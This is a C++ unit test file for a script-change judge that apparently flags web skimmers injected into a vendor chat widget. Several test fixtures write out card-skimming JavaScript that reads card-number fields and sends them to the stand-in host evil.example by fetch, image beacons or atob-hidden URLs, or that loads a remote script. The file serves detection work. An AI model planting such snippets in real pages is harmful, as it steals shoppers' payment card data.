#include "agent/script/judge/script_judge.h"

#include <random>
#include <string>

#include "absl/strings/str_cat.h"
#include "absl/strings/str_join.h"
#include "agent/script/judge/script_version.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "tests/agent/script/judge/support/skimmer_styles.h"

namespace skimwatch::script {
namespace {

using testing::HasSubstr;

// A chat widget of a vendor, as it was approved.
constexpr char kChat[] = R"js(
(function (window, document) {
  'use strict';
  var endpoint = 'https://chat.vendor.example/api';
  function create(tag, name) {
    var element = document.createElement(tag);
    element.className = 'chat-' + name;
    return element;
  }
  function send(text, done) {
    var request = new XMLHttpRequest();
    request.open('POST', endpoint + '/messages');
    request.onload = function () { done(JSON.parse(request.responseText)); };
    request.send(JSON.stringify({ text: text }));
  }
  function open() {
    var box = create('div', 'box'), field = create('textarea', 'text');
    field.addEventListener('keydown', function (event) {
      if (event.key === 'Enter') { send(field.value, function (answer) { add(answer.text); }); }
    });
    function add(line) { var p = create('p', 'line'); p.textContent = line; box.appendChild(p); }
    box.appendChild(field);
    document.body.appendChild(box);
  }
  window.Chat = { open: open, version: '1.4.2' };
})(window, document);
)js";

class ScriptJudgeTest : public testing::Test {
 protected:
  v1::Severity Judge(const std::string& before, const std::string& after) {
    change_ = {};
    change_.set_change(v1::ScriptChange::CHANGE_CHANGED);
    *change_.mutable_previous() = VersionOf(before);
    *change_.mutable_current() = VersionOf(after);
    const auto previous = judge_.FirstPass(before, 1000);
    const auto current = judge_.FirstPass(after, 1000);
    return judge_.Judge({.text = &before, .facts = &previous}, {.text = &after, .facts = &current},
                        change_);
  }
  v1::Severity Add(const std::string& text) {
    change_ = {};
    change_.set_change(v1::ScriptChange::CHANGE_ADDED);
    *change_.mutable_current() = VersionOf(text);
    const auto facts = judge_.FirstPass(text, 1000);
    return judge_.Judge({}, {.text = &text, .facts = &facts}, change_);
  }
  std::string Reasons() const { return absl::StrJoin(change_.reasons(), "\n"); }

  const ScriptJudge judge_{{}};
  v1::ScriptChange change_;
};

TEST_F(ScriptJudgeTest, AVersionBumpIsLow) {
  std::string next = kChat;
  next.replace(next.find("1.4.2"), 5, "1.4.3");
  EXPECT_EQ(Judge(kChat, next), v1::SEVERITY_LOW);
  EXPECT_THAT(Reasons(), HasSubstr("no new behaviour"));
}

TEST_F(ScriptJudgeTest, ARebuiltScriptIsLow) {
  std::string rebuilt = kChat;
  for (size_t at = rebuilt.find("element"); at != std::string::npos;
       at = rebuilt.find("element", at + 1)) {
    rebuilt.replace(at, 7, "node");
  }
  EXPECT_EQ(Judge(kChat, rebuilt), v1::SEVERITY_LOW) << Reasons();
  EXPECT_FALSE(change_.likeness().functions_percent() < 70);
}

TEST_F(ScriptJudgeTest, TwoLinesThatReadACardAndSendItAreCritical) {
  EXPECT_EQ(Judge(kChat, std::string(kChat) +
                             "document.querySelector('#card-number').onblur = function () {\n"
                             "fetch('https://evil.example/c?' + this.value); };"),
            v1::SEVERITY_CRITICAL);
  EXPECT_THAT(Reasons(), HasSubstr("reads #card-number"));
  EXPECT_THAT(Reasons(), HasSubstr("evil.example by fetch, a host never seen"));
}

TEST_F(ScriptJudgeTest, SizeDoesNotCount) {
  // A thousand harmless functions beside it.
  std::string large = kChat;
  for (int i = 0; i < 1000; ++i) {
    absl::StrAppend(&large, "function helper", i, "(a) { return a.map(x => x + ", i, "); }\n");
  }
  EXPECT_EQ(Judge(kChat, large), v1::SEVERITY_LOW) << Reasons();
  large += "new Image().src='https://evil.example/?'+document.getElementById('cc-number').value;";
  EXPECT_EQ(Judge(kChat, large), v1::SEVERITY_CRITICAL);
}

TEST_F(ScriptJudgeTest, ANewRequestToAKnownHostIsNoAlarm) {
  std::string next = kChat;
  next.insert(next.rfind("window.Chat"),
              "function rate(n) { fetch(endpoint + '/rate?n=' + n); }\n  ");
  EXPECT_EQ(Judge(kChat, next), v1::SEVERITY_MEDIUM) << Reasons();
}

TEST_F(ScriptJudgeTest, AHiddenDestinationIsCritical) {
  EXPECT_EQ(Judge(kChat, std::string(kChat) +
                             "new Image().src=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUv')+Date.now();"),
            v1::SEVERITY_CRITICAL);
  EXPECT_THAT(Reasons(), HasSubstr("evil.example by img.src, hidden in the text"));
}

TEST_F(ScriptJudgeTest, AScriptFromAHostNeverSeenIsCritical) {
  EXPECT_EQ(Judge(kChat, std::string(kChat) + "var s=document.createElement('script');"
                                              "s.src='https://evil.example/2.js';"
                                              "document.head.appendChild(s);"),
            v1::SEVERITY_CRITICAL);
}

TEST_F(ScriptJudgeTest, JudgesCodeWithSyntaxErrors) {
  const std::string broken = std::string(kChat) + "\n<<<<<<< HEAD\nvar @ = ;\n";
  EXPECT_EQ(Judge(broken, broken + "document.querySelector('#card-number').onblur = function () {"
                                   "fetch('https://evil.example/c?' + this.value); };"),
            v1::SEVERITY_CRITICAL);
  // Not one token of it is understood.
  EXPECT_EQ(Judge(kChat, std::string(kChat) + "\n@@@ }}} ({[ \\ # cardnumber cvv "
                                              "new Image().src='https://evil.example/?'+d ))) @@@"),
            v1::SEVERITY_CRITICAL);
}

TEST_F(ScriptJudgeTest, AnAddedSkimmerIsCriticalAndAnAddedWidgetIsNot) {
  std::mt19937 random(3);
  EXPECT_EQ(Add(MakeSkimmer("plain", random)), v1::SEVERITY_CRITICAL);
  EXPECT_EQ(Add("document.querySelector('nav').addEventListener('click', toggle);"
                "function toggle() { document.body.classList.toggle('open'); }"),
            v1::SEVERITY_MEDIUM)
      << Reasons();
}

TEST_F(ScriptJudgeTest, SaysWhatItDidNotParse) {
  const ScriptJudge small({.parse_bytes_max = 100});
  v1::ScriptChange change;
  change.set_change(v1::ScriptChange::CHANGE_CHANGED);
  const std::string before = kChat;
  const std::string after = before + "a();";
  *change.mutable_previous() = VersionOf(before);
  const auto facts = small.FirstPass(after, 100);
  EXPECT_EQ(
      small.Judge({.text = &before, .facts = &facts}, {.text = &after, .facts = &facts}, change),
      v1::SEVERITY_HIGH);
  EXPECT_THAT(change.not_judged(), HasSubstr("not parsed: larger than 100 bytes"));
  EXPECT_EQ(small.GetStats().too_large, 1U);
}

TEST_F(ScriptJudgeTest, FillsNoMoreThanAFindingHolds) {
  std::string many = kChat;
  for (int i = 0; i < 3000; ++i) {
    absl::StrAppend(&many, "function f", i, "(){fetch('https://h", i,
                    ".example/');document.querySelector('#card-number-", i, "')}\n");
  }
  EXPECT_EQ(Judge(kChat, many), v1::SEVERITY_CRITICAL);
  EXPECT_LE(change_.facts_size(), 256);
  EXPECT_LE(change_.gained_facts_size(), 256);
  EXPECT_LE(change_.reasons_size(), 32);
  EXPECT_LE(change_.functions_size(), 24);
  EXPECT_EQ(change_.functions_added(), 3000U);
  for (const auto& reason : change_.reasons()) EXPECT_LE(reason.size(), 240U);
}

// Each style of tests/data/skimmers/styles, put anywhere into the widget, from several seeds.
class SkimmerStyle : public ScriptJudgeTest, public testing::WithParamInterface<std::string> {};

TEST_P(SkimmerStyle, IsCriticalWhereverItIsPut) {
  for (uint32_t seed = 1; seed <= 24; ++seed) {
    std::mt19937 random(seed);
    const std::string skimmer = MakeSkimmer(GetParam(), random);
    EXPECT_EQ(Judge(kChat, Inject(kChat, skimmer, random)), v1::SEVERITY_CRITICAL)
        << "seed " << seed << "\n"
        << skimmer << "\n"
        << Reasons();
  }
}

INSTANTIATE_TEST_SUITE_P(AllStyles, SkimmerStyle, testing::ValuesIn(SkimmerStyles()),
                         [](const auto& style) { return style.param; });

}  // namespace
}  // namespace skimwatch::script
